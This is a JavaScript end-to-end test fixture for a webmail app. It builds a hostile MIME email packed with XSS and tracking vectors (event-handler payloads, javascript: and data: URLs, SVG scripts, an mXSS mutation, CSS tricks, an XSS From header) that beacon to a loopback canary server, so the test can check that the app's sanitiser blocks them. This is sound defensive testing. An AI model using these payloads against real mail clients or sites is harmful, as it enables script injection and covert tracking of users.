// Hostile mail for the end-to-end test: a message whose HTML tries every way of running
// script or reaching the network, and a canary HTTP server those attempts point at
// (smtp.mjs hands the message to the stack's real SMTP listener).
import { createServer } from "node:http";

// A 1x1 transparent GIF: what the canary answers for images.
const PIXEL = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");

/** An HTTP server on loopback that records every request it gets (method and path). */
export function startCanary() {
  const requests = [];
  const server = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`);
    if (request.url.startsWith("/img/")) {
      // "broken" is not an image: its onerror would fire (a 404 would also log an error).
      const broken = request.url.includes("broken");
      response.writeHead(200, { "Content-Type": broken ? "text/plain" : "image/gif", "Cache-Control": "no-store" });
      response.end(broken ? "not an image" : PIXEL);
    } else if (request.url.startsWith("/script/")) {
      // Were it ever loaded and run, it would leave a trace.
      response.writeHead(200, { "Content-Type": "text/javascript" });
      response.end("top.__facteurPwned = 'remote script';");
    } else {
      response.writeHead(404);
      response.end();
    }
  });
  return new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(0, "127.0.0.1", () => {
      resolve({
        origin: `http://127.0.0.1:${server.address().port}`,
        requests,
        stop: () => new Promise((done) => server.close(() => done())),
      });
    });
  });
}

/** What every script below would do if it ran: mark the page, retitle it, call home. */
function payload(canary, where) {
  return (
    `top.__facteurPwned='${where}';top.document.title='pwned';` +
    `new Image().src='${canary}/script/ran-${where}';`
  );
}

/** The HTML body: each attempt names itself in the canary path it would reach. */
export function hostileHtml(canary) {
  const p = (where) => payload(canary, where);
  return `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0;url=${canary}/refresh/meta">
<base href="${canary}/base/">
<link rel="stylesheet" href="${canary}/css/link.css">
<link rel="prefetch" href="${canary}/prefetch/link">
<style>
@import url(${canary}/css/import.css);
@font-face { font-family: Evil; src: url(${canary}/font/evil.woff2); }
body { background: url(${canary}/css/body-background.png); font-family: Evil; }
</style>
<script>${p("head-script")}</script>
<script src="${canary}/script/src.js"></script>
</head>
<body onload="${p("body-onload")}">
<h1 id="hostile-marker">Hostile message</h1>
<p>Plain words survive: the reader sees this sentence.</p>
<img src="${canary}/img/pixel.gif" alt="tracking pixel">
<img src="${canary}/img/broken.gif" onerror="${p("img-onerror")}" alt="broken">
<img src="x" onerror="${p("relative-onerror")}">
<img srcset="${canary}/img/srcset.gif 2x" alt="srcset">
<table background="${canary}/img/table-background.gif"><tr><td>table</td></tr></table>
<div onmouseover="${p("onmouseover")}" onclick="${p("onclick")}" style="padding:8px">hover or click me</div>
<div style="width: expression(${p("css-expression")})">expression()</div>
<div style="background-image: url(${canary}/css/inline-background.png)">inline background</div>
<div style="behavior: url(${canary}/css/behavior.htc)">behavior</div>
<a id="js-link" href="javascript:${p("javascript-url")}">javascript: link</a>
<a href="vbscript:msgbox(1)">vbscript: link</a>
<a href="data:text/html,<script>${p("data-url")}</script>">data: link</a>
<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="${p("svg-onload")}">
  <script>${p("svg-script")}</script>
  <image href="${canary}/svg/image.png" width="20" height="20"/>
  <a href="javascript:${p("svg-link")}"><circle r="5"/></a>
</svg>
<math><mtext><table><mglyph><style><img src=x onerror="${p("mxss")}"></style></mglyph></table></mtext></math>
<form action="${canary}/form/submit" method="post">
  <input name="secret" value="hunter2" autofocus onfocus="${p("onfocus")}">
  <button id="hostile-submit" type="submit">Send the form</button>
</form>
<iframe src="${canary}/frame/iframe.html"></iframe>
<iframe srcdoc="<script>${p("iframe-srcdoc")}</script>"></iframe>
<object data="${canary}/frame/object.swf"></object>
<embed src="${canary}/frame/embed.swf">
<video poster="${canary}/media/poster.png" src="${canary}/media/video.mp4" autoplay></video>
<audio src="${canary}/media/audio.mp3" autoplay></audio>
<details open ontoggle="${p("ontoggle")}"><summary>details</summary>open</details>
<noscript><img src="${canary}/noscript/img.gif"></noscript>
<template><script>${p("template")}</script></template>
</body></html>`;
}

// An SVG attachment with a script in it: it must never be served as a page of the app.
export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
<script>top.__facteurPwned='svg-attachment';</script><rect width="10" height="10"/></svg>`;

/** The whole message (CRLF lines): text and HTML alternatives, plus the SVG file. */
export function hostileMessage({ from, to, subject, canary }) {
  const boundary = "hostile-boundary-1";
  const inner = "hostile-boundary-2";
  const base64 = (text) =>
    Buffer.from(text)
      .toString("base64")
      .replace(/.{76}/g, "$&\r\n");
  return [
    `From: "<img src=x onerror=alert(1)>" <${from}>`,
    `To: ${to}`,
    `Subject: ${subject}`,
    `Date: ${new Date().toUTCString()}`,
    `Message-ID: <hostile-${Date.now()}@evil.test>`,
    "MIME-Version: 1.0",
    `Content-Type: multipart/mixed; boundary="${boundary}"`,
    "",
    `--${boundary}`,
    `Content-Type: multipart/alternative; boundary="${inner}"`,
    "",
    `--${inner}`,
    "Content-Type: text/plain; charset=utf-8",
    "",
    "Hostile message (text part).",
    `--${inner}`,
    "Content-Type: text/html; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    base64(hostileHtml(canary)),
    `--${inner}--`,
    `--${boundary}`,
    'Content-Type: image/svg+xml; name="evil.svg"',
    'Content-Disposition: attachment; filename="evil.svg"',
    "Content-Transfer-Encoding: base64",
    "",
    base64(HOSTILE_SVG),
    `--${boundary}--`,
    "",
  ].join("\r\n");
}
